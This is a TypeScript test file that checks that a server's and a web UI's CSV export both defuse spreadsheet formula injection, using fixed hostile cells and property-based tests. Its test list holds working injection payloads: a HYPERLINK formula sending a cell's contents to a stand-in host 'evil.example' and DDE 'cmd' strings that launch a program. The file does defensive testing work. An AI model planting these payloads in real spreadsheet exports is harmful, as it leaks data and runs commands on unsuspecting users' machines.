/**
 * CSV export (../shared/docs/hostile-input.md case 38, CSV): cells beginning with `=`, `+`, `-` or
 * `@` (and tab, CR, LF) are prefixed with `'`. The server's exports (src/domain/csv.ts) and the web
 * UI's "Download CSV" (web/src/lib/csv.ts, which may not import server code) apply the same rule:
 * checked here on hostile cells and on arbitrary text.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell as serverCell, csvRow as serverRow } from '../../src/domain/csv.js';
import { csvCell as webCell, csvRow as webRow } from '../../web/src/lib/csv.js';

const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];

describe('CSV cells', () => {
  it("case 38 (CSV export): cells beginning with = + - @ (tab, CR, LF) get a leading ', on the server and in the web UI", () => {
    for (const cell of HOSTILE_CELLS) {
      for (const write of [serverCell, webCell]) {
        const written = write(cell);
        // Unquoted, or quoted: either way the cell's text starts with the apostrophe.
        expect(
          written.replace(/^"/, '').startsWith("'"),
          `${write === serverCell ? 'server' : 'web'}: ${cell}`,
        ).toBe(true);
      }
    }
    for (const safe of ['Payments', '1+1', 'a=b', '<img src=x onerror=alert(1)>'])
      expect(webCell(safe)).toBe(serverCell(safe));
    expect(webCell(-5)).toBe('-5');
  });

  it('extra: the web UI and the server write every cell and row the same (property)', () => {
    const value = fc.oneof(
      fc.string(),
      fc.constantFrom(...HOSTILE_CELLS, '=', '+', '-', '@', ' ', '"', ','),
      fc.double(),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(value, { maxLength: 8 }), (row) => {
        for (const cell of row) expect(webCell(cell)).toBe(serverCell(cell));
        expect(webRow(row)).toBe(serverRow(row));
      }),
      { numRuns: 2000 },
    );
  });
});
